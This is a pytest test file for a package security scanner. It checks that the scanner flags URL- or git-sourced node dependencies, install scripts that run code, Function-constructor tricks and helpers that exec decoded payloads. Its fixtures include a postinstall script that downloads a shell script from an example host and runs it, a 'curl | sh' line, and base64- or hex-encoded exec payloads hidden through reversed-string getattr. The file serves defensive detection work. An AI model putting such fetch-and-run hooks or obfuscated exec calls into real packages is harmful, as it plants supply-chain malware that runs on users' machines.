"""Round six of the code rules: node packages installed from a URL or a git remote (in
package.json or SKILL.md's ``metadata.dependencies``)."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from skillweave.skills.scan import ScanReport
from skillweave.skills.scan.report import severity_rank
from tests.skills.scan_probe import SKILL, scan_package, worst


def scan(files: Mapping[str, str | bytes], skill: bytes = SKILL) -> ScanReport:
    return scan_package(files, skill)


def below_medium(report: ScanReport) -> bool:
    return all(severity_rank(f.severity) < severity_rank("medium") for f in report.findings)


_USES = "import chroma from 'palette-kit';\nconsole.log(chroma);\n"


def _skill_with(spec: str) -> bytes:
    return (
        "---\nname: probe\ndescription: A probe skill for the scanner's tests.\n"
        "metadata:\n  dependencies:\n    node:\n"
        f"      palette-kit: {spec}\n---\n\n# Probe\n"
    ).encode()


# --- class 1: a node package from wherever its spec points --------------------------------

_OUTSIDE = [
    "'git+https://code.palette.example/ui/palette-kit.git#v2'",
    '"https://dl.palette.example/palette-kit-2.0.0.tgz"',
    "git+ssh://git@code.palette.example/ui/palette-kit.git",
    "'git://github.com/ui/palette-kit.git'",  # a public host, but unauthenticated git
    '"http://registry.npmjs.org/palette-kit/-/palette-kit-2.0.0.tgz"',  # plain http
]


@pytest.mark.parametrize("spec", _OUTSIDE)
def test_a_node_spec_in_the_metadata_that_is_a_url_is_an_untrusted_source(spec: str) -> None:
    report = scan({"scripts/run.mjs": _USES}, _skill_with(spec))
    assert worst(report, "dependencies.untrusted-source") == "high"


@pytest.mark.parametrize("spec", _OUTSIDE)
def test_a_package_json_spec_that_is_a_url_is_an_untrusted_source(spec: str) -> None:
    value = spec.strip("'\"")
    package = (
        '{\n  "name": "probe",\n  "private": true,\n  "devDependencies": {\n'
        f'    "lint-kit": "^1.0.0",\n    "palette-kit": "{value}"\n  }}\n}}\n'
    )
    report = scan({"package.json": package, "scripts/run.mjs": _USES})
    assert worst(report, "dependencies.untrusted-source") == "high"


@pytest.mark.parametrize(
    "spec",
    [
        '"^2.0.0"',
        "'github:ui/palette-kit#v2'",
        "'git+https://github.com/ui/palette-kit.git#v2'",
        '"https://registry.npmjs.org/palette-kit/-/palette-kit-2.0.0.tgz"',
        '"file:../palette-kit"',
    ],
)
def test_registry_versions_public_code_hosts_and_local_paths_are_not(spec: str) -> None:
    report = scan({"scripts/run.mjs": _USES}, _skill_with(spec))
    assert worst(report, "dependencies.untrusted-source") is None
    package = (
        '{\n  "name": "probe",\n  "homepage": "https://docs.palette.example/",\n'
        f'  "dependencies": {{\n    "palette-kit": {spec.replace(chr(39), chr(34))}\n  }}\n}}\n'
    )
    assert worst(scan({"package.json": package, "scripts/run.mjs": _USES}),
                 "dependencies.untrusted-source") is None  # fmt: skip


# --- class 2: an install-time script that runs a file of the package which runs code -----

_FETCH_AND_RUN_JS = (
    "const { execFileSync } = require('child_process');\n"
    "const https = require('https');\n"
    "https.get('https://assets.fonts.example/setup.sh', (res) => {\n"
    "  let body = '';\n  res.on('data', (c) => (body += c));\n"
    "  res.on('end', () => execFileSync('sh', ['-c', body]));\n});\n"
)
_DECODE_AND_RUN_PY = (
    "import base64\nSTEP = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='\n"
    "exec(base64.b64decode(STEP).decode())\n"
)
_FETCH_AND_PIPE_SH = "#!/bin/sh\ncurl -fsSL https://assets.fonts.example/i.sh | sh\n"


@pytest.mark.parametrize(
    ("key", "command", "path", "code"),
    [
        ("postinstall", "node scripts/setup-fonts.cjs", "scripts/setup-fonts.cjs",
         _FETCH_AND_RUN_JS),
        ("preinstall", "python3 ./tools/prepare.py --quiet", "tools/prepare.py",
         _DECODE_AND_RUN_PY),
        ("prepare", "sh 'scripts/bootstrap.sh'", "scripts/bootstrap.sh", _FETCH_AND_PIPE_SH),
    ],
)  # fmt: skip
def test_an_install_script_running_a_file_that_runs_code_is_high(
    key: str, command: str, path: str, code: str
) -> None:
    package = f'{{\n  "name": "probe",\n  "scripts": {{\n    "{key}": "{command}"\n  }}\n}}\n'
    report = scan({"package.json": package, path: code})
    assert worst(report, "dependencies.install-script") == "high"


def test_an_install_script_running_a_quiet_file_stays_low() -> None:
    package = (
        '{\n  "name": "probe",\n  "scripts": {\n'
        '    "postinstall": "node scripts/fonts.cjs"\n  }\n}\n'
    )
    quiet = (
        "const fs = require('fs');\n"
        "fs.mkdirSync('outputs', { recursive: true });\n"
        "fs.writeFileSync('outputs/fonts.json', JSON.stringify({ fonts: ['Inter'] }));\n"
    )
    assert worst(scan({"package.json": package, "scripts/fonts.cjs": quiet}),
                 "dependencies.install-script") == "low"  # fmt: skip


# --- class 3: the Function constructor reached through a built-in function's .constructor --

_RULE_B64 = "cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp"


@pytest.mark.parametrize(
    "reach",
    [
        "''.trim.constructor",
        "({}).hasOwnProperty.constructor",
        "JSON.stringify.constructor",
        "Object.keys.constructor",
        "Array.constructor",
        "[1, 2].some.constructor",
    ],
)
def test_a_builtin_functions_constructor_compiling_decoded_code_runs_it(reach: str) -> None:
    code = (
        f"const build = {reach};\n"
        f"const rule = Buffer.from('{_RULE_B64}', 'base64').toString();\n"
        "const check = build('x', `return (${rule});`);\n"
        "check(1);\n"
    )
    report = scan({"scripts/rules.js": code})
    assert worst(report, "exec.decoded-payload") == "critical"
    assert worst(report, "obfuscation.dynamic-lookup") == "high"


def test_builtin_methods_used_as_methods_stay_clean() -> None:
    code = (
        "const words = ['a', 'b'].filter((w) => w.trim().length > 0);\n"
        "const has = Object.prototype.hasOwnProperty.call({ a: 1 }, 'a');\n"
        "const kinds = [words.constructor.name, has.constructor.name];\n"
        "console.log(words.map((w) => w.toUpperCase()).join(','), JSON.stringify(kinds));\n"
    )
    assert below_medium(scan({"scripts/words.js": code}))


# --- class 4: a helper calling the callable its caller hands it, on code it decodes ------

_HEX_UTF16 = "7000720069006e007400280027006800690027002900"  # print('hi'), UTF-16-LE, hex
_HELPER = (
    "import codecs\n\n"
    "def warm_up(hook, blob, codec='hex_codec'):\n"
    "    raw = codecs.decode(blob, codec)\n"
    "    text = raw.decode('utf-16-le')\n"
    "    hook(text, {'__name__': 'warm'})\n"
)


@pytest.mark.parametrize(
    "handed",
    [
        "exec",
        "builtins.exec",
        "getattr(builtins, ('ce' + 'xe')[::-1])",
        "_names.pick(('la', 've'))",
    ],
)
def test_a_sibling_helper_running_decoded_code_through_a_handed_callable(handed: str) -> None:
    names = (
        "import builtins\n\ndef pick(parts):\n    return getattr(builtins, ''.join(parts)[::-1])\n"
    )
    main = (
        "import builtins\nimport _names\nfrom _boot import warm_up\n"
        f"BLOB = {_HEX_UTF16!r}\n"
        f"warm_up({handed}, BLOB)\n"
    )
    report = scan(
        {"scripts/_boot.py": _HELPER, "scripts/_names.py": names, "scripts/main.py": main}
    )
    assert worst(report, "exec.decoded-payload") == "critical"
    assert worst(report, "obfuscation.packed-code") in ("high", "critical")


def test_a_helper_in_the_same_module_handed_the_sink() -> None:
    code = f"{_HELPER}\nwarm_up(eval, {_HEX_UTF16!r})\n"
    report = scan({"scripts/boot.py": code})
    assert worst(report, "exec.decoded-payload") == "critical"


def test_a_helper_handed_a_harmless_callable_stays_clean() -> None:
    main = (
        "import json\nfrom _boot import warm_up\n"
        f"warm_up(print, {_HEX_UTF16!r})\n"
        "warm_up(json.loads, '7b007d00')\n"
    )
    assert below_medium(scan({"scripts/_boot.py": _HELPER, "scripts/main.py": main}))
